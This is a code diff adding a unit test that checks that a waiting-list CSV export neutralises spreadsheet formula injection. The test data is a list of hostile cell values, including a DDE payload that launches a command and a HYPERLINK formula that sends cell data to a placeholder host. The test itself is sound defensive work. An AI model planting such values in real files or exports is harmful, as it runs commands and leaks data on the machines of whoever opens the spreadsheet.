@@ -10,6 +10,7 @@ import { readNotificationDetail } from './notification-detail';
 import { seedWorklist, SEED_EGS } from './testing/worklist-seed';
 import { createUnit, listGeographicEntities, setLocalActivation, updateUnit, listUnits } from './units-and-entities';
 import { listWaitingLists, waitingListsCsv, WAITING_CSV_HEADERS } from './waiting-lists';
+import { parseCsvDocument } from '../export/csv';
 import { listWorklist, type WorklistFilter } from './worklist-queries';
 
 const TODAY = '2026-07-01';
@@ -222,6 +223,44 @@ describe('waiting lists, units', () => {
     const first = withEntries[0]?.entries[0];
     expect(lines[1]?.split(';')[3]).toBe(first?.familyName);
     expect(lines[1]).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
+  });
+
+  it('exports no cell a spreadsheet would run: formula-leading names, identifiers and free text are neutralised', () => {
+    seedWorklist(db, { count: 60, today: TODAY });
+    const hostile = [
+      "=cmd|' /C calc'!A0",
+      '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
+      '+33 1 00 00 00 00',
+      '-2+3',
+      '@SUM(1+1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const units = listWaitingLists(db, {}, TODAY)
+      .filter((u) => u.entries.length > 0)
+      .map((u, i) => ({
+        ...u,
+        egName: hostile[i % hostile.length]!,
+        unitName: hostile[(i + 1) % hostile.length]!,
+        idRor: hostile[(i + 2) % hostile.length]!,
+        entries: u.entries.map((e, j) => ({
+          ...e,
+          familyName: hostile[j % hostile.length]!,
+          givenNames: hostile[(j + 1) % hostile.length]!,
+          mdphIndividualId: hostile[(j + 2) % hostile.length]!,
+          idDecision: hostile[(j + 3) % hostile.length]!,
+          priority: hostile[(j + 4) % hostile.length]!,
+          categoryLabel: hostile[(j + 5) % hostile.length]!,
+        })),
+      }));
+    const csv = waitingListsCsv(units);
+    const rows = parseCsvDocument(csv.content);
+    expect(rows).toHaveLength(csv.rows + 1);
+    const cells = rows.slice(1).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    // Nothing is lost: each hostile value is there, behind its apostrophe.
+    for (const value of hostile) expect(cells).toContain(`'${value}`);
+    expect(rows[1]).toHaveLength(WAITING_CSV_HEADERS.length);
   });
 
   it('validates a unit edit against J34/J30/J264 and marks it locally edited', () => {
